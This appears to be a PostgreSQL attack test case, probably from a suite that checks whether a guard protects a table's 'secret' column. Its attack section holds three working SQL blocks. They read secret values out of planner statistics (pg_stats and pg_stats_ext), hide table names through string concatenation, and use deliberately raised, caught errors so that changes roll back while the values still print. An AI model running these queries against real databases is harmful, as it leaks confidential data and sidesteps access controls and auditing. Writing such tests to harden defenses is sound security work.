-- Reads extended statistics by text, and through a function in SQL that text makes, in blocks that are rolled back.
-- wants: read
-- setup:
CREATE STATISTICS vlt_kept (mcv) ON name, secret FROM vlt_account;
ANALYZE vlt_account;
-- attack:
DO $$ DECLARE x text; BEGIN
  BEGIN EXECUTE 'SELECT most_common_vals::text FROM pg_' || 'stats_ext WHERE tablename = ''vlt_account''' INTO x;
    RAISE division_by_zero; EXCEPTION WHEN division_by_zero THEN NULL; END;
  RAISE NOTICE '%', x; END $$;
DO $$ DECLARE x text; BEGIN
  BEGIN EXECUTE 'CREATE FUNCTION peek() RETURNS SETOF text STABLE LANGUAGE sql AS ''SELECT most_common_vals::text FROM pg_' || 'stats WHERE tablename = ''''vlt_account'''' AND attname = ''''secret''''''';
    EXECUTE 'SELECT p FROM pe' || 'ek() p' INTO x;
    RAISE division_by_zero; EXCEPTION WHEN division_by_zero THEN NULL; END;
  RAISE NOTICE '%', x; END $$;
DO $$ DECLARE x text; BEGIN
  BEGIN EXECUTE 'CREATE TEMP TABLE kept AS SELECT most_common_vals::text AS v FROM pg_' || 'stats WHERE tablename = ''vlt_account'' AND attname = ''secret''';
    EXECUTE 'SELECT v FROM ke' || 'pt' INTO x;
    RAISE division_by_zero; EXCEPTION WHEN division_by_zero THEN NULL; END;
  RAISE NOTICE '%', x; END $$;
